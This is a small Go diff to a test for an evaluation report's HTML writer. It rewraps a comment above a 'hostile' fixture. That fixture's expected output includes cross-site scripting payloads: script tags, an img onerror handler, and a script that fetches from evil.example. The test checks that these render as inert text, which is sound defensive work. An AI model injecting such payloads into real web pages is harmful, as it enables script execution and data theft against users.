@@ -43,9 +43,9 @@ func TestHTMLInBrowser(t *testing.T) {
 			rep := harnessFixture()
 			return WriteHarnessHTML(b, rep, CompareHarness(harnessBaseline(t), rep, DefaultMaxDrop))
 		}, []string{"suite flight-booking", "Regression: 2 tasks regressed", "Tasks"}, false},
-		// Tool names, arguments, results (collapsed, so not in the text), a
-		// final answer and a contract
-		// that hold HTML and Markdown: shown as text, nothing runs or loads.
+		// Tool names, arguments, results (collapsed, so not in the text),
+		// a final answer and a contract that hold HTML and Markdown: shown
+		// as text, nothing runs or loads.
 		{"hostile", func(b *bytes.Buffer) error { return WriteEvalHTML(b, hostileFixture(t)) },
 			[]string{"search</td><script>alert('name')</script>", "<img src=y onerror=alert(3)>", "![x](http://evil.example/t.png)",
 				`"<script>fetch('http://evil.example/x')</script>"`, "Done <script>alert('final')</script>"}, false},
